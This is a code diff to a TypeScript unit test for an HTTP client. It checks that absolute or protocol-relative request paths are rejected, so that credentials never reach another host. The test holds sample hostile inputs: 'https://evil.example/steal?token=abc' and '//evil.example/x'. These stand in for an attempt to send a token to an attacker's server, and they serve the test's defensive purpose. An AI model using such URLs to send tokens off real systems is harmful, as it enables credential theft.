@@ -4,7 +4,7 @@
  * happens when the API cannot be reached.
  */
 import { afterEach, describe, expect, it } from 'vitest';
-import { InterruptedError, UnreachableError } from '../../../../src/engine/errors.js';
+import { InterruptedError, ModuleFailure, UnreachableError } from '../../../../src/engine/errors.js';
 import { Secret } from '../../../../src/engine/secret.js';
 import { HttpError, HttpUnreachableError, NoShellError, openHttpConnection, type HttpFactoryOptions } from '../../../../src/engine/transport/http/index.js';
 import type { HttpConnection } from '../../../../src/engine/transport/http/index.js';
@@ -73,8 +73,9 @@ describe('basic auth and requests', () => {
   it('refuses an absolute URL as a path (credentials would go elsewhere)', async () => {
     const s = await server(() => ({ status: 200 }));
     const c = await connect({ tsplay_http_url: s.url, tsplay_http_user: 'admin', tsplay_http_password: PASSWORD });
-    const e = await failure(c.http.get('https://evil.example/steal'));
-    expect(e).toBeInstanceOf(HttpError);
+    const e = await failure(c.http.get('https://evil.example/steal?token=abc'));
+    expect(e.message).toBe('GET: the request path must be relative to tsplay_http_url (credentials are only sent there), found https://evil.example/steal?token=***');
+    expect(await failure(c.http.get('//evil.example/x'))).toBeInstanceOf(ModuleFailure);
     expect(s.requests).toHaveLength(0);
   });
 
